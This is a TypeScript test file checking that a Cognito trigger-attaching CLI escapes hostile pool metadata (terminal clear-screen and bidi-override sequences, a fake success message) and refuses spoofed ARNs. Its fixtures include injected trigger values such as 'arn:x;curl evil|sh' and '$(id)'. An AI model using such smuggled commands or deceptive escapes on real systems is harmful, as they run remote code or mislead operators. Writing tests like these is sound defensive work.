import { type JsonObject, toJsonObject } from "cognito-links/attach";
import { describe, expect, it } from "vitest";
import { bentEndpoint, bentPool } from "./bent-endpoint.ts";
import { type LivePool, livePool, ours, run, theirs, userPoolId } from "./live-pool.ts";

const wipe = "\u001B[2J\r\nAttached. Nothing else changed.\u009B31m\u202E";
const shown = "\\u001b[2J\\r\\nAttached. Nothing else changed.\\u009b31m\\u202e";
const obeyed = /[^\P{Cc}\n]|[\u2028-\u202E]|^Attached/mu;

async function runBent(
  live: LivePool,
  [command = "attach", ...flags]: readonly string[],
  bend: (pool: JsonObject, look: number) => JsonObject,
) {
  const endpoints = await bentEndpoint(live, bentPool(bend));
  const pool = ["--user-pool-id", userPoolId, "--function-arn", ours];
  return run(command, ...pool, ...flags, ...endpoints);
}

describe.each(["attach", "detach"])("what a pool says to cognito-links %s", (command) => {
  const trigger = command === "attach" ? {} : { CustomMessage: ours };

  it("is shown and not obeyed: its name, a sender and an owner", async () => {
    const live = await livePool();
    const { out, err } = await runBent(live, [command, "--dry-run"], (pool) => ({
      ...pool,
      Name: wipe,
      UserPoolTags: { "aws:cloudformation:stack-name": wipe },
      LambdaConfig: { ...trigger, CustomEmailSender: { LambdaArn: wipe } },
    }));
    expect(out).toContain(`pool        ${shown} (${userPoolId})\n`);
    if (command === "attach") expect(out).toContain(`the CustomEmailSender ${shown} sends them\n`);
    expect(err).toContain(`Warning: The pool belongs to the CloudFormation stack ${shown}, which`);
    expect(out + err).not.toMatch(obeyed);
  });

  it("is shown and not obeyed: the owner for whom it refuses, in one line", async () => {
    const live = await livePool();
    const { code, err } = await runBent(live, [command, "--yes"], (pool) => ({
      ...pool,
      LambdaConfig: trigger,
      UserPoolTags: { "aws:cloudformation:stack-name": wipe },
    }));
    expect(code).toBe(1);
    expect(err).toContain(`stack ${shown}, which`);
    expect(err).toContain("in the template. Nothing was written.");
    expect(err).toMatch(/^[^\n]* \(ERR_POOL_OWNED: docs\/errors.md#err_pool_owned\)\n$/);
    expect(err).not.toMatch(obeyed);
  });

  it("is shown and not obeyed: the trigger that is in the way", async () => {
    const live = await livePool();
    const { code, err } = await runBent(live, [command, "--yes"], (pool) => ({
      ...pool,
      LambdaConfig: { CustomMessage: wipe },
    }));
    expect({ code, err }).toEqual({ code: 1, err: expect.stringContaining(shown) });
    expect(err).not.toMatch(obeyed);
  });

  it("is shown and not obeyed: what differs afterwards", async () => {
    const live = await livePool();
    if (command === "detach") await live.update({ LambdaConfig: trigger });
    const proof = command === "attach" ? 4 : 3;
    const { code, err } = await runBent(live, [command, "--yes"], (pool, look) =>
      look < proof ? pool : { ...pool, EmailVerificationSubject: wipe },
    );
    expect({ code, err }).toEqual({
      code: 1,
      err: expect.stringContaining(`EmailVerificationSubject: absent -> "${shown}"\n`),
    });
    expect(err).not.toMatch(obeyed);
  });
});

describe("cognito-links attach", () => {
  it("offers to replace a trigger only if it is a function's ARN", async () => {
    const live = await livePool();
    const offer = async (CustomMessage: string) =>
      (
        await runBent(live, ["attach", "--yes"], (pool) => ({
          ...pool,
          LambdaConfig: { CustomMessage },
        }))
      ).err;
    expect(await offer(theirs)).toContain(`add --replace ${theirs} (`);
    for (const arn of ["arn:x;curl evil|sh", `${theirs}$(id)`])
      expect(await offer(arn)).not.toContain("--replace");
  });

  const arnOf = (place: string) => `arn:aws:cognito-idp:${place}`;
  it.each([
    ["of another account", arnOf(`eu-west-1:999999999999:userpool/${userPoolId}`)],
    ["of another region", arnOf(`us-east-1:000000000000:userpool/${userPoolId}`)],
    ["of another pool", arnOf("eu-west-1:000000000000:userpool/eu-west-1_Other")],
    ["that is a pattern", arnOf("eu-west-1:000000000000:userpool/*")],
    ["that is none", undefined],
  ])("lets no pool in that is reported with an ARN %s", async (_what, Arn) => {
    const live = await livePool();
    const before = await live.writes();
    const own = toJsonObject(await live.describe())["Arn"];
    const { code, out, err } = await runBent(live, ["attach", "--yes"], (pool) => ({
      ...pool,
      Arn,
    }));
    expect({ code, out }).toEqual({ code: 1, out: "" });
    expect(err).toContain(`The pool is reported as ${Arn}, and`);
    expect(err).toContain(`here ${own}. Nothing was written.`);
    expect(err).toMatch(/ \(ERR_POOL_ARN: docs\/errors.md#err_pool_arn\)\n$/);
    expect(await live.writes()).toEqual(before);
    expect(await live.statements(ours)).toEqual([]);
  });
});
